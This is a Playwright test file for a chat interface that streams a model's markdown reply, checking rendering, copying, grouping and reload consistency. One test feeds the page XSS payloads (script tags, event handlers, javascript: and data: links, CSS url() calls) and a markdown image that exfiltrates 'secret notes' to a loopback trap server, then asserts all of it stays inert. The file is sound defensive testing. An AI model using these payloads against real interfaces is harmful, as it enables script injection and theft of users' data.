import { expect, test } from "./fixtures";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { configureFake, lastReply, openNewChat, send } from "./helpers";

/// Cuts `text` into tokens of a few characters, and also right inside each of `awkward`, so
/// markup arrives in pieces (`<scr` + `ipt>`), as a model's tokens would cut it.
function tokenize(text: string, awkward: string[] = []): string[] {
  const cuts = new Set<number>();
  for (let i = 3; i < text.length; i += 3 + (i % 5)) cuts.add(i);
  for (const a of awkward) {
    for (let at = text.indexOf(a); at >= 0; at = text.indexOf(a, at + 1)) {
      cuts.add(at + 1);
      cuts.add(at + Math.floor(a.length / 2));
    }
  }
  const sorted = [...cuts].filter((c) => c > 0 && c < text.length).sort((a, b) => a - b);
  const tokens: string[] = [];
  let from = 0;
  for (const cut of sorted) {
    // Never inside a UTF-16 surrogate pair.
    const code = text.charCodeAt(cut - 1);
    if (code >= 0xd800 && code <= 0xdbff) continue;
    tokens.push(text.slice(from, cut));
    from = cut;
  }
  tokens.push(text.slice(from));
  return tokens;
}

test("a reply renders as markdown while it streams: headings, emphasis, lists, tables, links and code with a Copy button", async ({ page, context }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const doc = [
    "## Plan",
    "",
    "Some **bold**, _emphasis_, `inline code` and ~~struck~~ text, with a [link](https://example.com/docs).",
    "",
    "Bare addresses link too: https://example.org/a_b?x=1&y=2.",
    "",
    "1. first",
    "2. second",
    "   - nested",
    "",
    "- [x] done",
    "- [ ] to do",
    "",
    "| Name | Size |",
    "|------|-----:|",
    "| a    |    1 |",
    "| b    |   22 |",
    "",
    "> quoted",
    "",
    "```rust",
    "fn main() {",
    "    println!(\"<b>not bold</b>\");",
    "}",
    "```",
    "",
    "Done.",
  ].join("\n");
  const tokens = tokenize(doc, ["**", "```", "|---"]);
  // First the reply stops arriving in the middle of the code block: it shows as code already.
  let sent = 0;
  const stallAfter = tokens.findIndex((t) => (sent += t.length) > doc.indexOf("println"));
  await configureFake(page, { tokens: tokens.length, token_delay_ms: 2, script: tokens, stall_after: stallAfter });
  await openNewChat(page);
  await send(page, "Show me markdown");
  const reply = lastReply(page).locator(".content");
  await expect(reply.locator(".code-block code")).toContainText("fn main() {");
  await expect(reply.locator(".code-language")).toHaveText("rust");
  await expect(lastReply(page)).toHaveAttribute("data-status", "streaming");
  await page.getByRole("button", { name: "Stop", exact: true }).click();
  await expect(lastReply(page)).toHaveAttribute("data-status", "stopped");

  await configureFake(page, { tokens: tokens.length, token_delay_ms: 2, script: tokens });
  await send(page, "Again, whole");
  await expect(lastReply(page)).toHaveAttribute("data-status", "complete");

  const check = async () => {
    await expect(reply.locator("h2")).toHaveText("Plan");
    await expect(reply.locator("strong")).toHaveText("bold");
    await expect(reply.locator("em")).toHaveText("emphasis");
    await expect(reply.locator("p code")).toHaveText("inline code");
    await expect(reply.locator("del")).toHaveText("struck");
    await expect(reply.locator("ol > li")).toHaveCount(2);
    await expect(reply.locator("ol ul > li")).toHaveText("nested");
    await expect(reply.locator("input[type=checkbox]")).toHaveCount(2);
    await expect(reply.locator("input[type=checkbox]").first()).toBeChecked();
    await expect(reply.locator("table tr")).toHaveCount(3);
    await expect(reply.locator("blockquote")).toHaveText("quoted");
    const link = reply.getByRole("link", { name: "link" });
    await expect(link).toHaveAttribute("href", "https://example.com/docs");
    await expect(link).toHaveAttribute("target", "_blank");
    await expect(link).toHaveAttribute("rel", "noopener noreferrer");
    await expect(reply.locator(".code-language")).toHaveText("rust");
    await expect(reply.locator(".code-block code")).toHaveText('fn main() {\n    println!("<b>not bold</b>");\n}\n');
    await expect(reply.locator(".code-block b")).toHaveCount(0);
    // Highlighted: the keyword and the string have their classes, the text is unchanged.
    await expect(reply.locator(".code-block .hl-keyword").first()).toHaveText("fn");
    await expect(reply.locator(".code-block .hl-string")).toHaveText('"<b>not bold</b>"');
    const bare = reply.getByRole("link", { name: "https://example.org/a_b?x=1&y=2" });
    await expect(bare).toHaveAttribute("href", "https://example.org/a_b?x=1&y=2");
    await expect(bare).toHaveAttribute("rel", "noopener noreferrer");
  };
  await check();

  await reply.getByRole("button", { name: "Copy" }).click();
  await expect(reply.getByRole("button", { name: "Copied" })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
    'fn main() {\n    println!("<b>not bold</b>");\n}\n',
  );

  // The whole message copies as the markdown the model wrote, not as the rendered text.
  await lastReply(page).locator("button.copy-message").click();
  await expect(lastReply(page).locator("button.copy-message")).toHaveText("Copied");
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(doc);

  // The same from the server's rendering, after a reload.
  await page.reload();
  await expect(page.locator("html[data-hydrated]")).toBeAttached();
  await check();
});

test("a long reply streamed in many groups reads and measures the same as its reload", async ({ page }) => {
  // 30 sections of 6 blocks: the page keeps a streamed reply's finished blocks in groups, and
  // the reload renders the whole reply at once; the two must hold the same text at the same
  // height (no margin lost or doubled where one group ends and the next begins).
  const section = (i: number) =>
    [
      `## Step ${i}`,
      "",
      `Prose for step ${i}, with **bold**, \`code\` and a [link](https://example.com/${i}).`,
      "",
      "- a point",
      "",
      "  with a second paragraph",
      "- another point",
      "",
      "> a quote",
      "",
      "```rust",
      `let step = ${i};`,
      "```",
      "",
      "---",
      "",
    ].join("\n");
  const doc = Array.from({ length: 30 }, (_, i) => section(i + 1)).join("") + "The end.";
  const tokens = tokenize(doc);
  await configureFake(page, { tokens: tokens.length, token_delay_ms: 3, script: tokens });
  await openNewChat(page);
  await send(page, "A long answer");
  const reply = lastReply(page).locator(".content");
  // A block settled early is the same element at the end: settled blocks are not rendered again.
  const early = await reply.locator(".md-group .md-part").first().elementHandle();
  await expect(lastReply(page)).toHaveAttribute("data-status", "streaming");
  await expect(lastReply(page)).toHaveAttribute("data-status", "complete", { timeout: 30_000 });
  await expect(reply).toContainText("The end.");
  expect(await early?.evaluate((el) => el.isConnected && el.textContent?.startsWith("Step 1"))).toBe(true);
  expect(await reply.locator(".md-group").count()).toBeGreaterThan(2);
  // Laid out in full: a group out of view may stand at an estimated height until it is seen.
  const measure = () =>
    reply.evaluate((el) => {
      el.querySelectorAll<HTMLElement>(".md-group").forEach((g) => (g.style.contentVisibility = "visible"));
      return {
        text: el.textContent,
        blocks: el.querySelectorAll("h2, p, li, pre, blockquote, hr").length,
        height: el.getBoundingClientRect().height,
      };
    });
  const streamed = await measure();
  expect(streamed.blocks).toBe(30 * 11 + 1);

  await page.reload();
  await expect(page.locator("html[data-hydrated]")).toBeAttached();
  await expect(reply).toContainText("The end.");
  const reloaded = await measure();
  expect(reloaded.text).toBe(streamed.text);
  expect(reloaded.blocks).toBe(streamed.blocks);
  expect(Math.abs(reloaded.height - streamed.height)).toBeLessThan(1);
});

test("hostile markup from a model stays inert text, split across tokens, and no image is fetched", async ({ page }) => {
  // A server on loopback that records every request: nothing on the page may reach it.
  const seen: string[] = [];
  const trap: Server = createServer((req, res) => {
    seen.push(req.url ?? "");
    res.end("x");
  });
  await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
  const port = (trap.address() as AddressInfo).port;
  const trapUrl = `http://127.0.0.1:${port}`;
  try {
      const payloads = [
      `<script>window.__pwned = "script"</script>`,
      `<img src=x onerror="window.__pwned = 'img'">`,
      `<svg onload="window.__pwned = 'svg'"><circle r="5"/></svg>`,
      `[click me](javascript:window.__pwned='link')`,
      `[data link](data:text/html,<script>window.__pwned='data'</script>)`,
      `<a href="data:text/html,<script>alert(1)</script>">raw data link</a>`,
      `<a href="javascript:alert(1)">raw js link</a>`,
      `<iframe src="${trapUrl}/iframe"></iframe>`,
      `<style>body { background: url(${trapUrl}/style-tag) }</style>`,
      `<div style="background: url(${trapUrl}/style-attr)">styled</div>`,
      `![the user's secret notes](${trapUrl}/exfiltrate?q=secret+notes)`,
      `<img src="${trapUrl}/raw-img">`,
      `Inline <b onmouseover="window.__pwned='b'">bold?</b> and <details open ontoggle="window.__pwned='details'">x</details>`,
    ];
    const doc = payloads.join("\n\n") + "\n\nThe end.";
    const tokens = tokenize(doc, ["<script", "onerror", "javascript:", "<svg", "<iframe", "<style", "![", "data:"]);
    await configureFake(page, { tokens: tokens.length, token_delay_ms: 2, script: tokens });
    await openNewChat(page);
    await send(page, "Summarise this poisoned page");
    await expect(lastReply(page)).toHaveAttribute("data-status", "complete");

    const reply = lastReply(page).locator(".content");
    const inert = async () => {
      await expect(reply).toContainText("The end.");
      // Raw HTML is shown as the text it is.
      await expect(reply).toContainText(`<script>window.__pwned = "script"</script>`);
      await expect(reply).toContainText(`<img src=x onerror=`);
      for (const tag of ["script", "img", "svg", "iframe", "style", "details", "b", "[style]", "[onerror]", "[onload]"]) {
        await expect(reply.locator(tag), tag).toHaveCount(0);
      }
      const hrefs = await reply.locator("a").evaluateAll((as) => as.map((a) => a.getAttribute("href") ?? ""));
      for (const href of hrefs) expect(href, href).toMatch(/^(https?:|mailto:)/);
      // The image is a link naming its host, not a fetch.
      const image = reply.locator("a.image-link");
      await expect(image).toContainText(`Image from 127.0.0.1:${port}`);
      await expect(image).toContainText("the user's secret notes");
      await expect(image).toHaveAttribute("rel", "noopener noreferrer");
      expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    };
    await inert();
    await page.reload();
    await expect(page.locator("html[data-hydrated]")).toBeAttached();
    await inert();
    // Hovering and clicking what looks like a link does nothing either.
    await reply.getByText("click me").click();
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(seen).toEqual([]);
    // The fixture fails the test on any console error (a CSP refusal is one), page error or dialog.
    } finally {
    trap.close();
  }
});
